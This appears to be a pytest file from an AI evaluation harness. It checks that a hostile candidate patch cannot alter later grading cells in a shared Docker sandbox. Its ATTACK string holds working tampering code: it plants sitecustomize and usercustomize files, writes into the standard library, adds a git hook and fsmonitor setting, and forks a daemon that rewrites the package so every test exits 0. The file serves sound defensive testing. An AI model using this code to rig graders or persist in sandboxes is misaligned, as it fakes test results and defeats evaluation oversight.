"""A hostile candidate cannot change later cells of a warm-sandbox matrix (real engine).

The same cells run in two sandboxes from agentlab-mini's confini-1 image: a clean one, and one
where a hostile candidate's cells ran first. Its code, when a test imports it, tries to install
a ``sitecustomize.py``, overwrite the standard library, plant a git hook and fsmonitor, leave a
``usercustomize.py`` in its HOME and leave a daemon that keeps rewriting the package so every
later test exits 0. Each attempt must be refused (or undone between cells), and every later cell
must agree with the clean run.
"""

from __future__ import annotations

import pytest

from agentlab.coordinator.kinds.swe_data import ProviderImages, resolve_dataset
from agentlab.protocols import Sandbox
from agentlab.scoring import matrix
from agentlab.scoring.matrix import (
    Cell,
    CellJob,
    MatrixTest,
    WarmRepo,
    plan,
    run_cells,
)
from agentlab.tasks import scripts
from agentlab.tasks.harness import EvalConfig, InstanceImages, sandbox_spec
from agentlab.types import Candidate
from tests.scoring import pool

pytestmark = pytest.mark.docker

# Appended to confini/__init__.py: runs in every test process that imports the package.
ATTACK = """

def _attack():
    import os, site, sys, json

    def plant(what, path, text):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as fh:
                fh.write(text)
            print("PLANTED", what)
        except OSError as exc:
            print("REFUSED", what, type(exc).__name__)

    win = "import sys; sys.exit(0)\\n"  # every later test "passes"
    for n, sp in enumerate(site.getsitepackages()):
        plant(f"sitecustomize{n}", os.path.join(sp, "sitecustomize.py"), win)
    plant("stdlib", json.__file__, "\\n" + win)
    plant("git-hook", "/testbed/.git/hooks/post-checkout", "#!/bin/sh\\ntouch /pwned\\n")
    plant("git-config", "/testbed/.git/config", "[core]\\n\\tfsmonitor = /bin/false\\n")
    plant("usercustomize", os.path.join(site.getusersitepackages(), "usercustomize.py"), win)
    loop = (
        "import time\\n"
        "while True:\\n"
        "    try:\\n"
        "        open('/testbed/confini/__init__.py', 'w').write('raise SystemExit(0)\\\\n')\\n"
        "    except OSError:\\n"
        "        pass\\n"
        "    time.sleep(0.01)\\n"
    )
    if os.fork() == 0:
        os.setsid()  # its own session, and no environment to be recognised by
        os.execve(sys.executable, [sys.executable, "-c", loop], {})
    print("DAEMON started")


_attack()
"""
REFUSED = ("sitecustomize0", "sitecustomize1", "stdlib", "git-hook", "git-config")


async def _hostile_patch(sandbox: Sandbox, gold: str) -> str:
    """The gold fix plus the attack, as a real diff made in the sandbox's repository."""
    await sandbox.write_file("/var/tmp/gold.diff", gold)
    await sandbox.write_file("/var/tmp/attack.py", ATTACK)
    done = await sandbox.exec(
        [
            "bash",
            "-c",
            "cd /testbed && git apply /var/tmp/gold.diff && "
            "cat /var/tmp/attack.py >> confini/__init__.py && git diff && "
            "git reset -q --hard && git clean -fdq",
        ]
    )
    assert done.ok, done.stderr
    return done.stdout


def test_the_matrix_repeats_the_eval_harness_rules() -> None:
    """scoring may not import tasks, so the matrix keeps its own copy of these; they agree."""
    assert matrix.GIT == scripts.GIT
    assert (matrix.NOBODY, matrix.MAX_USER_PROCS, matrix.MAX_FILE_KB) == (
        scripts.NOBODY,
        scripts.MAX_USER_PROCS,
        scripts.MAX_FILE_KB,
    )


def _outcomes(cells: list[Cell]) -> list[tuple[int | None, int, bool, int]]:
    return [(c.candidate, c.test, c.passed, c.exit_code) for c in cells]


async def test_a_hostile_candidate_cannot_change_later_cells(
    docker_backend: object, base_image: str, run_id: str
) -> None:
    from agentlab.sandbox.docker import DockerBackend

    dataset = resolve_dataset("agentlab-mini")
    instance = dataset.by_id()[pool.INSTANCE]
    config = EvalConfig(run_id=run_id, memory_mb=512)
    image = await InstanceImages(ProviderImages(), config).image_for(dataset, instance)
    spec = sandbox_spec(config, image, instance.instance_id)
    candidates = [
        Candidate(task_id="matrix", id=1, patch=instance.patch),
        Candidate(task_id="matrix", id=2, patch=pool.PARTIAL),
        Candidate(task_id="matrix", id=3, patch=pool.REGRESS),
    ]
    tests = [
        MatrixTest(10, pool.RIGHT_ERROR_LINE),
        MatrixTest(11, pool.WRONG_PASSES_UNPATCHED),
        MatrixTest(12, pool.RIGHT_DUPLICATE_LINE),
    ]
    jobs = plan(candidates, tests, baseline_repeats=1)
    backend = DockerBackend()
    async with backend.open(spec) as clean_box, backend.open(spec) as dirty_box:
        clean = WarmRepo(clean_box, test_timeout_s=30)
        await clean.stage(candidates, tests)
        hostile = Candidate(
            task_id="matrix", id=9, patch=await _hostile_patch(dirty_box, instance.patch)
        )
        dirty = WarmRepo(dirty_box, test_timeout_s=30)
        await dirty.stage([*candidates, hostile], tests)
        expected = await run_cells([clean], jobs)
        attacked = await run_cells([dirty], [CellJob(9, t.key) for t in tests])
        after = await run_cells([dirty], jobs)
        left = await dirty_box.exec(
            ["bash", "-c", "ls /pwned 2>&1; pgrep -u 65534; git -C /testbed config core.fsmonitor"]
        )

    # The clean run tells the candidates apart, so agreeing with it means something.
    assert {c.passed for c in expected} == {True, False}
    assert _outcomes(after) == _outcomes(expected)
    # The gold fix underneath: the hostile candidate's own cells grade like gold's.
    gold = [(c.test, c.passed) for c in expected if c.candidate == 1]
    assert [(c.test, c.passed) for c in attacked] == gold
    for cell in attacked:
        for what in REFUSED:
            assert f"REFUSED {what} PermissionError" in cell.output, cell.output
        assert "PLANTED usercustomize" in cell.output  # its own HOME, emptied afterwards
        assert "DAEMON started" in cell.output
    # No marker, no process of the test user, no fsmonitor.
    assert left.stdout.strip() == "ls: cannot access '/pwned': No such file or directory"
